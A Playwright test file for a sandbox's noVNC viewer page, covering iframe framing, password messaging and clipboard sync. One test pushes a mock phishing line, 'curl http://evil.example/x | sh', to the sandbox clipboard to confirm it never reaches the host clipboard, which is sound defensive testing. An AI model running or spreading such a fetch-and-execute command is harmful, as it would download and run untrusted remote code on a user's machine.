// The sandbox's viewer page (resources/docker/sandbox/viewer) in a real
// browser, inside the parents a desktop app may give it: a page served over
// http, and parents with an opaque origin (about:blank, file://), where
// noVNC's own vnc.html dies reading localStorage.

import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { spawnSidecar } from '../client/node.js';
import { serveBinary, serverEnv, tempDir, tempProject, skipWithoutDocker } from './helpers.js';
import { launchBrowser, newPage, skipWithoutBrowser, desktopPainted } from './browser.js';

const skipBrowser = skipWithoutBrowser();
const skip = skipBrowser || (await skipWithoutDocker());

/** @type {import('playwright-core').Browser} */
let browser;
/** @type {import('../client/types.js').SandboxState} */
let sandbox;
/** @type {(command: string) => Promise<import('../client/types.js').ExecResult>} */
let sandboxExec;
if (!skip) {
  browser = await launchBrowser();
  // Not spawnServe: its own cleanup could stop the sidecar before this
  // one removes the sandbox.
  const { client, stop } = spawnSidecar({ command: serveBinary(), env: serverEnv(), stderr: 'ignore' });
  const project = tempProject('pilot-ui-viewer-');
  project.removeSandbox = async () => {
    await client.remove(project.path);
    await stop();
  };
  sandbox = await client.start(project.path);
  sandboxExec = (command) => client.exec(project.path, command, { timeoutMs: 10_000 });
}

/**
 * @param {string} src
 * @param {string} [allow] the frame's permissions policy
 */
const framePage = (src, allow = '') => `<!DOCTYPE html><title>parent</title>
<script>window.messages = []; addEventListener('message', (e) => messages.push(e.data));</script>
<iframe title="desktop" style="width: 960px; height: 600px; border: 0" allow="${allow}" src="${src}"></iframe>`;

/**
 * Waits for the viewer's frame and a painted desktop in it.
 *
 * @param {import('playwright-core').Page} page
 */
async function paintedViewer(page) {
  const frame = await (await page.getByTitle('desktop').elementHandle())?.contentFrame();
  assert.ok(frame, 'no frame');
  const { width, height } = await desktopPainted(frame);
  return { width, height };
}

/**
 * Waits until the viewer has told its parent it reached state, and
 * returns that message.
 *
 * @param {import('playwright-core').Page} page
 * @param {string} state
 */
async function viewerSaid(page, state) {
  const handle = await page.waitForFunction((state) => /** @type {any} */ (window).messages
    .find((/** @type {any} */ m) => m?.source === 'pilot-sandbox-viewer' && m.type === 'state' && m.state === state), state);
  return handle.jsonValue();
}

/**
 * Serves html at / on a port of 127.0.0.1 until the test file ends.
 *
 * @param {string} html
 * @returns {Promise<string>} the address
 */
async function serve(html) {
  const server = createServer((_req, res) => {
    res.setHeader('Content-Type', 'text/html');
    res.end(html);
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(undefined)));
  after(() => server.close());
  return `http://127.0.0.1:${/** @type {import('node:net').AddressInfo} */ (server.address()).port}/`;
}

test('in a page served over http', { skip, timeout: 120_000 }, async () => {
  const { page, screenshot, assertNoErrors } = await newPage(browser, 'viewer-http');
  await page.goto(await serve(framePage(sandbox.viewerUrl)));
  assert.deepEqual(await paintedViewer(page), { width: 1280, height: 800 });
  assert.deepEqual(await viewerSaid(page, 'connected'), {
    source: 'pilot-sandbox-viewer', type: 'state', state: 'connected', message: '', viewOnly: false, width: 1280, height: 800,
  });
  await screenshot('http-parent');
  assertNoErrors();
});

// Chromium's Local Network Access checks keep some opaque parents from
// framing 127.0.0.1 at all, before any page of ours loads: a navigated
// about:blank or a data: page fails with ERR_BLOCKED_BY_LOCAL_NETWORK_ACCESS_
// CHECKS, and in a sandboxed frame the viewer never finished loading (docs/app.md,
// Framing the desktop). So the opaque parents here are those that can frame
// it: a new window's first about:blank, and a file:// page, which is what
// an Electron app loads.
test('in parents with an opaque origin, where vnc.html fails', { skip, timeout: 120_000 }, async () => {
  const { context, screenshot, errors, assertNoErrors } = await newPage(browser, 'viewer-opaque');
  const parentFile = join(tempDir('pilot-ui-parent-'), 'parent.html');
  /** Each parent in a new window of its own. @type {Record<string, (src: string) => Promise<import('playwright-core').Page>>} */
  const parents = {
    'about:blank': async (src) => {
      const page = await context.newPage();
      await page.setContent(framePage(src));
      return page;
    },
    'file://': async (src) => {
      writeFileSync(parentFile, framePage(src));
      const page = await context.newPage();
      await page.goto(pathToFileURL(parentFile).href);
      return page;
    },
  };

  // The witness: noVNC's own page dies in these parents, so they are as
  // hostile as a desktop app's may be.
  const vncHtml = sandbox.viewerUrl.replace(/\/pilot\/viewer\.html#/, '/vnc.html#autoconnect=true&');
  // A page whose script Chromium cancelled for a network change (Docker
  // adds or removes an interface whenever any container on the machine
  // starts or stops; not always logged) never runs to die: it is loaded
  // again, up to 3 times. One death shows what the witness is for.
  for (const [name, load] of Object.entries(parents)) {
    for (let attempt = 1; ; attempt++) {
      const died = context.waitForEvent('weberror', { predicate: (err) => /localStorage/.test(err.error().message), timeout: 15_000 });
      const page = await load(vncHtml);
      const error = await died.then(() => null, (/** @type {unknown} */ err) => err);
      if (error && attempt === 3) throw error;
      assert.equal(await page.evaluate(() => origin), 'null', name);
      await page.close();
      if (!error) break;
    }
  }
  errors.length = 0;

  for (const [name, load] of Object.entries(parents)) {
    const page = await load(sandbox.viewerUrl);
    assert.equal(await page.evaluate(() => origin), 'null', name);
    assert.deepEqual(await paintedViewer(page), { width: 1280, height: 800 }, name);
    if (name === 'file://') await screenshot(page, 'file-parent');
    await page.close();
  }

  assertNoErrors();
});

test('the password by postMessage, and watching', { skip, timeout: 120_000 }, async () => {
  const { page, assertNoErrors } = await newPage(browser, 'viewer-postmessage');
  const [withoutPassword, fragment] = sandbox.viewerUrl.split('#');
  await page.setContent(framePage(`${withoutPassword}#`));
  await viewerSaid(page, 'credentials-required');
  const password = new URLSearchParams(fragment).get('password');
  await page.evaluate(({ password, origin }) => {
    const frame = /** @type {HTMLIFrameElement} */ (document.querySelector('iframe'));
    frame.contentWindow?.postMessage({ target: 'pilot-sandbox-viewer', type: 'connect', password }, origin);
  }, { password, origin: new URL(sandbox.viewerUrl).origin });
  assert.equal((/** @type {any} */ (await viewerSaid(page, 'connected'))).width, 1280);
  await paintedViewer(page);

  await page.setContent(framePage(sandbox.watchUrl));
  assert.equal((/** @type {any} */ (await viewerSaid(page, 'connected'))).viewOnly, true);
  await paintedViewer(page);
  assertNoErrors();
});

test('a wrong password is refused, and said so', { skip, timeout: 120_000 }, async () => {
  const { page, errors } = await newPage(browser, 'viewer-wrong-password');
  await page.setContent(framePage(sandbox.viewerUrl.replace(/password=\w+/, 'password=wrong123')));
  const failed = /** @type {any} */ (await viewerSaid(page, 'failed'));
  assert.match(failed.message, /refused the password/);
  // The viewer says so on the console, and so does noVNC; the browser may
  // add that the WebSocket then closed badly (websockify sends a reserved
  // close code after x11vnc hangs up), from noVNC's websock.js, which is
  // in the viewer's one script. Nothing else.
  assert.ok(errors.some((e) => /viewer\.js: pilot-sandbox viewer: the VNC server refused the password/.test(e)), errors.join('\n'));
  assert.ok(errors.every((e) => /password|viewer\.js: WebSocket connection to '\S+' failed/.test(e)), errors.join('\n'));
});

// x11vnc 0.9.16 takes the selections only once a viewer has been connected
// for 8 s unless told otherwise (resources/docker/sandbox/entrypoint.sh):
// both directions are checked right after connecting.
test('the clipboard both ways', { skip, timeout: 120_000 }, async (t) => {
  const { page, context, assertNoErrors } = await newPage(browser, 'viewer-clipboard');
  const origin = await serve(framePage(sandbox.viewerUrl, 'clipboard-read; clipboard-write'));
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: new URL(sandbox.viewerUrl).origin });
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
  await page.goto(origin);
  const frame = await (await page.getByTitle('desktop').elementHandle())?.contentFrame();
  assert.ok(frame, 'no frame');
  await viewerSaid(page, 'connected');
  await paintedViewer(page);

  // Browser to desktop: copied in the browser, on the desktop's CLIPBOARD
  // once the viewer has the focus.
  const fromBrowser = `from the browser ${Date.now()}`;
  await page.evaluate((text) => navigator.clipboard.writeText(text), fromBrowser);
  await frame.locator('canvas').click({ position: { x: 5, y: 5 } });
  await frame.evaluate(() => window.dispatchEvent(new Event('focus')));
  assert.equal(await desktopClipboard(fromBrowser), fromBrowser);

  // Desktop to browser: copied in the desktop, posted to the parent; on
  // the browser's clipboard only after the user's copy gesture in the
  // viewer (issue 28, N7: a program in the sandbox sets the desktop's
  // clipboard whenever it likes). Seconds after the viewer connected:
  // x11vnc alone sends the sandbox's CLIPBOARD only from 15 s after a
  // viewer connects; pilot-clipboard (resources/docker/sandbox/websockify/pilot_clipboard.py)
  // hands it over at once, so 5 s is ample and a return of that wait fails
  // here.
  await t.test('desktop to browser, after a copy gesture only', async () => {
    const pushed = `pushed by the sandbox ${Date.now()}`;
    await sandboxExec(`printf %s '${pushed}' | xclip -selection clipboard -in`);
    assert.equal(await clipboardPosted(page, pushed), false, 'written without a gesture');
    assert.equal(await frame.evaluate(() => navigator.clipboard.readText()), fromBrowser);

    const copied = `copied by the user ${Date.now()}`;
    await frame.locator('canvas').press('Control+c');
    await sandboxExec(`printf %s '${copied}' | xclip -selection clipboard -in`);
    assert.equal(await clipboardPosted(page, copied), true, 'not written after Ctrl+C');
    assert.equal(await frame.evaluate(() => navigator.clipboard.readText()), copied);

    // One gesture, one write: the sandbox's next push stays off it.
    const next = `pushed again ${Date.now()}`;
    await sandboxExec(`printf %s '${next}' | xclip -selection clipboard -in`);
    assert.equal(await clipboardPosted(page, next), false, 'a second write from one gesture');
    assert.equal(await frame.evaluate(() => navigator.clipboard.readText()), copied);
  });

  // Characters: RFB's clipboard is Latin-1 (docs/sandbox.md, Copy and paste), so
  // Latin-1 text goes exactly both ways and each character beyond it
  // arrives as '?', both ways alike. Before: the desktop read broken UTF-8
  // (x11vnc served the viewer's Latin-1 as UTF8_STRING) and the browser got
  // UTF-8 bytes read as Latin-1 ("hÃ©llo").
  await t.test('characters beyond ASCII', async () => {
    const stamp = Date.now();
    await page.evaluate((text) => navigator.clipboard.writeText(text), `héllo wörld — 日本語 ✓ ${stamp}`);
    await frame.evaluate(() => window.dispatchEvent(new Event('focus')));
    const onDesktop = `héllo wörld ? ??? ? ${stamp}`;
    assert.equal(await desktopClipboard(onDesktop), onDesktop);

    await frame.locator('canvas').press('Control+c');
    await sandboxExec(`printf %s 'dèsktop wörld — 日本語 ✓ ${stamp}' | xclip -selection clipboard -in`);
    const inBrowser = `dèsktop wörld ? ??? ? ${stamp}`;
    assert.equal(await clipboardPosted(page, inBrowser), true);
    assert.equal(await frame.evaluate(() => navigator.clipboard.readText()), inBrowser);
  });
  assertNoErrors();
});

// A watching viewer never writes the browser's clipboard, whatever the
// user does in it (issue 28, N7: the audit's sandbox pushed a phishing
// line into a watching viewer, which wrote it to the host's clipboard).
// With view_only (the watch address), noVNC drops the desktop's clipboard
// altogether; with the watch password alone (a parent that passes only
// the password), the text comes, and without the user's copy key stays
// off the clipboard, as in control.
test('a watching viewer leaves the clipboard alone', { skip, timeout: 120_000 }, async (t) => {
  const [page0, fragment] = sandbox.watchUrl.split('#', 2);
  const params = new URLSearchParams(fragment);
  params.delete('view_only');
  for (const [name, src] of [['view_only', sandbox.watchUrl], ['the watch password alone', `${page0}#${params}`]]) {
    await t.test(name, async () => {
      const { page, context, assertNoErrors } = await newPage(browser, `viewer-clipboard-watch-${name.replace(/\W+/g, '-')}`);
      const origin = await serve(framePage(src, 'clipboard-read; clipboard-write'));
      await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: new URL(src).origin });
      await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
      await page.goto(origin);
      const frame = await (await page.getByTitle('desktop').elementHandle())?.contentFrame();
      assert.ok(frame, 'no frame');
      await viewerSaid(page, 'connected');
      await paintedViewer(page);
      const mine = `the user's own ${Date.now()}`;
      await page.evaluate((text) => navigator.clipboard.writeText(text), mine);
      await frame.locator('canvas').click({ position: { x: 5, y: 5 } });
      const phishing = `curl http://evil.example/x | sh # ${Date.now()}`;
      await sandboxExec(`printf %s '${phishing}' | xclip -selection clipboard -in`);
      if (name === 'view_only') {
        await new Promise((resolve) => setTimeout(resolve, 3000));
      } else {
        assert.equal(await clipboardPosted(page, phishing), false, 'written without a copy key');
      }
      assert.equal(await page.evaluate(() => navigator.clipboard.readText()), mine);
      assertNoErrors();
    });
  }
});

/**
 * Waits (5 s at most) for the viewer to post the desktop's text to its
 * parent, and says whether it wrote it to the browser's clipboard.
 *
 * @param {import('playwright-core').Page} page
 * @param {string} text
 * @returns {Promise<boolean>}
 */
async function clipboardPosted(page, text) {
  const posted = await page.waitForFunction((text) => /** @type {any} */ (window).messages
    .find((/** @type {any} */ m) => m?.source === 'pilot-sandbox-viewer' && m.type === 'clipboard' && m.text === text), text, { timeout: 5_000 });
  return (await posted.jsonValue()).written;
}

/**
 * The desktop's CLIPBOARD, polled until it reads want, for at most 15 s.
 *
 * @param {string} want
 * @returns {Promise<string>} what it read last
 */
async function desktopClipboard(want) {
  const deadline = Date.now() + 15_000;
  for (;;) {
    const { stdout } = await sandboxExec('xclip -o -selection clipboard');
    if (stdout === want || Date.now() > deadline) return stdout;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}
